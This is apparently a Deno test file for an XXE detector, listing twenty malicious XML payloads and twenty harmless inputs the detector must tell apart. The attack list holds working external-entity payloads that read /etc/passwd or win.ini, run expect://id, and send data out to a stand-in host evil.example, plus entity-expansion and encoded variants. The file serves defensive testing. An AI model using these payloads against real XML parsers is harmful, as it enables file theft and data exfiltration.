import assert from "node:assert/strict";
import { inspect } from "../request/mod.ts";
import { pointsIn, rulesIn } from "../testing.ts";
import { xxe } from "./detect.ts";

const ATTACKS: readonly string[] = [
  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'http://evil.example/'>]><a>&x;</a>",
  '<!DOCTYPE a [<!ENTITY x PUBLIC "any" "file:///etc/passwd">]><a/>',
  '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><a/>',
  '<!doctype a [<!entity x system "expect://id">]><a/>',
  "<!DOCTYPE a [<!ENTITY % c \"<!ENTITY &#37; d SYSTEM 'http://evil.example/?%f;'>\">]><a/>",
  '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
  '<!DOCTYPE a PUBLIC "-//A//B" "http://evil.example/a.dtd"><a/>',
  '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
  '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]><l>&c;</l>',
  '<!DOCTYPE a [<!ENTITY x "text">]><a>&x;</a>',
  '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></a>',
  '<xi:include href="http://evil.example/x"/>',
  "<!DOCTYPE\n a [\n<!ENTITY\tx\nSYSTEM\n'file:///c:/win.ini'>]>",
  '<svg><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hosts">]></svg>',
  '<!ENTITY % d SYSTEM "php://filter/resource=a">',
  "<xsl:stylesheet><xsl:copy-of select=\"document('/etc/passwd')\"/></xsl:stylesheet>",
  "<a><![CDATA[<]]>script<![CDATA[>]]></a>",
  "+ADw-!DOCTYPE a [+ADw-!ENTITY x SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-]+AD4-",
  '&lt;!DOCTYPE a [&lt;!ENTITY x SYSTEM "file:///etc/passwd"&gt;]&gt;',
];

const INNOCENT: readonly string[] = [
  "<!DOCTYPE html><html><body>hi</body></html>",
  '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
  '<!DOCTYPE html SYSTEM "about:legacy-compat">',
  '<?xml version="1.0"?><order><id>1</id></order>',
  '<!DOCTYPE note SYSTEM "note.dtd"><note/>',
  '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>',
  '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>',
  '<rss version="2.0"><channel><title>News</title></channel></rss>',
  '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
  "<a><![CDATA[ if (a < b) run(); ]]></a>",
  "Can an entity in a DOCTYPE be external?",
  "What does &nbsp; mean? And &copy;?",
  "Somebody told me that <!ENTITY x SYSTEM 'file'> is dangerous, why is that so?",
  '<!DOCTYPE svg [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg/>',
  "<xsl:template match='/'><b/></xsl:template>",
  "1 < 2 and 3 > 2",
  "<include file='header.html'/>",
  "#include <stdio.h>",
  "the system entity",
  '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
];

Deno.test("xxe detects entities, includes and foreign DTDs", () => {
  for (const text of ATTACKS) assert.equal(pointsIn(xxe, text), 5, text);
  assert.equal(ATTACKS.length, 20);
});

Deno.test("xxe lets plain XML, HTML and talk about them pass at level 1", () => {
  for (const text of INNOCENT) assert.deepEqual(rulesIn(xxe, text), [], text);
  assert.equal(INNOCENT.length, 20);
});

Deno.test("xxe reads an XML body as a whole", () => {
  const headers: [string, string][] = [["content-type", "application/xml"]];
  const body = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r>&e;</r>';
  const found = xxe.detect(inspect({ method: "POST", path: "/", query: "", headers, body }));
  assert.ok(found.some((finding) => finding.rule === "xxe.external-entity"));
});
